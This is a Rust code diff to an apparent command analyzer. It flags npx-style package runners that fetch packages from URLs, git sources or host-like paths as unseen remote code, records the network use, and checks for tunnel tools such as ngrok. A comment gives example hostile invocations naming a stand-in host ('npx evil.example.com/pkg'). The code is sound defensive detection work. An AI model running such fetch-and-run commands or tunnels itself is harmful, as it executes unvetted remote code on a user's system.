@@ -194,6 +194,22 @@ impl Analyzer {
     pub(super) fn package_runner(&mut self, _name: &str, args: &[Arg], ctx: &mut CommandContext) {
         let pkg = args.iter().map(|a| a.text.as_str()).find(|t| !t.starts_with('-') && *t != "dlx" && *t != "exec");
         if let Some(p) = pkg {
+            // `npx evil.example.com/pkg`, `npx https://host/p.tgz`, `npx github:o/r`: code
+            // fetched from a place the command names, run here unseen.
+            let first = p.split('/').next().unwrap_or("");
+            let remote = p.contains("://")
+                || p.starts_with("github:")
+                || p.starts_with("git+")
+                || (first.contains('.') && !first.starts_with('@') && p.contains('/') && !p.starts_with('.'));
+            if remote {
+                self.facts.unresolved.push(format!("it runs a package fetched from {p}, unseen"));
+                let nu = NetUse {
+                    tool: "package runner".into(),
+                    hosts: loose_host(p).into_iter().collect(),
+                    ..Default::default()
+                };
+                self.push_net(ctx, nu, false);
+            }
             let base = p.split('@').next().unwrap_or(p);
             if TUNNELS.contains(&base) || base.contains("tunnel") || base == "ngrok" {
                 self.tunnel(base, &[], ctx);
